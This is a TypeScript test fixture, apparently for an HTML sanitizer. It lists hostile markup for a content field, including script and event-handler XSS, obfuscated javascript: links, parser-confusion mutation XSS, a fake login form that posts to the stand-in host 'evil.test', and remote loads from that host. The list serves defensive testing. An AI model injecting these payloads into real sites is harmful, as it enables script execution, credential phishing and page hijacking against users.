/** The host that hostile markup would phone home to; no request may ever reach it. */
export const evil = 'evil.test';

const script = 'window.hacked = true';

/** Markup that a stolen staff account could leave in a content field. */
export const hostilePayloads: readonly string[] = [
  `<script>${script}</script>`,
  `<script src="https://${evil}/a.js"></script>`,
  `<img src="x" onerror="${script}">`,
  `<img src="/icon.svg" onload="${script}">`,
  `<svg onload="${script}"><circle r="9"/></svg>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><image href="https://${evil}/a.png"/></svg>`,
  `<svg><style>@import "https://${evil}/a.css";</style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  `<iframe src="https://${evil}/"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>`,
  `<object data="https://${evil}/a.swf"></object><embed src="https://${evil}/b">`,
  `<a href="javascript:${script}" id="token" name="token">click</a>`,
  `<a href="&#106;ava\tscript:${script}">click</a>`,
  `<a href="//${evil}/phish" target="_self">click</a>`,
  `<form action="https://${evil}/"><input name="password" autofocus onfocus="${script}"><button>Log in</button></form>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:url(https://${evil}/a.png)">cover</div>`,
  `<style>body{background:url(https://${evil}/b.png)} *{display:none!important}</style>`,
  `<link rel="stylesheet" href="https://${evil}/a.css"><link rel="prefetch" href="https://${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${evil}/"><base href="https://${evil}/">`,
  `<img srcset="https://${evil}/a.png 1x" alt=""><picture><source srcset="https://${evil}/b.png"></picture>`,
  `<video src="https://${evil}/a.webm" autoplay poster="https://${evil}/c.png"></video><audio src="https://${evil}/a.mp3" autoplay></audio>`,
  `<table width="99999" background="https://${evil}/d.png"><td width="99999" height="9">wide</td></table><img src="/icon.svg" width="99999" height="9" alt="">`,
  `<template><img src=x onerror="${script}"></template><details open ontoggle="${script}">open</details><body onpageshow="${script}">`,
  // The last one: it swallows everything after it in the same field.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
];
